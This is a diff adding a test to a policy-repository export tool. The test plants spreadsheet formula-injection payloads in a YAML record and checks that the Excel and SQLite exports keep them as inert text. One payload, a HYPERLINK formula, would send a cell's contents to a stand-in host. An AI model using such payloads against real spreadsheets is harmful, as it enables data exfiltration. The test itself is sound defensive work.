@@ -355,3 +355,37 @@ def test_published_layouts_of_the_task_and_boundary_lists(city, tmp_path):
     assert sorted(p.name for p in csvdir.iterdir()) == [f"{d}.csv" for d in depts]    # file names are ids
     assert main(["export", "--root", str(root), "--kind", "bodies", "--layout", "published",
                  "-o", str(tmp_path / "x.xlsx")]) == 2
+
+
+PAYLOADS = ("=HYPERLINK(\"http://x?\"&A1)", "+1+1", "-2+3")
+
+
+def test_payloads_in_every_kind_stay_text_in_every_layout(city, tmp_path):
+    import yaml
+    from openpyxl import load_workbook
+    from policykit.io.writing import dump_yaml
+    data = yaml.safe_load((ROOT / "rules/_base/lists/boundaries/BJ-001.yaml").read_text("utf-8"))
+    data["departments"][0]["duties"] = [PAYLOADS[0]]
+    data["mechanism"]["trigger"], data["mechanism"]["enforcement"] = PAYLOADS[1], PAYLOADS[2]
+    root = city({"lists/boundaries/BJ-001.yaml": dump_yaml(data)})
+    repo = policykit.open_repository(root)
+    assert not [p for p in repo.load_problems if p.severity == "error"], repo.load_problems
+    b = repo.boundaries[0]
+    assert b.roles[0].duties[0] == PAYLOADS[0] and b.mechanism["trigger"] == PAYLOADS[1]
+    seen = set()
+    for args in (["--kind", "all", "--layout", "tables"], ["--kind", "boundaries"]):
+        out = tmp_path / f"{len(seen)}.xlsx"
+        assert main(["export", "--root", str(root), *args, "-o", str(out)]) == 0
+        for ws in load_workbook(out).worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                    if isinstance(c.value, str) and c.value[:1] in "=+-@":
+                        seen.add(c.value)
+    assert PAYLOADS[0] in seen and PAYLOADS[1] in seen and PAYLOADS[2] in seen
+    db = tmp_path / "c.sqlite"
+    export_sqlite(repo, db)
+    con = sqlite3.connect(db)
+    assert con.execute("SELECT duty FROM boundary_role_duties WHERE matter = 'BJ-001' AND role_seq = 1").fetchone() \
+        == (PAYLOADS[0],)
+    assert dict(con.execute("SELECT key, text FROM boundary_mechanism"))["enforcement"] == PAYLOADS[2]
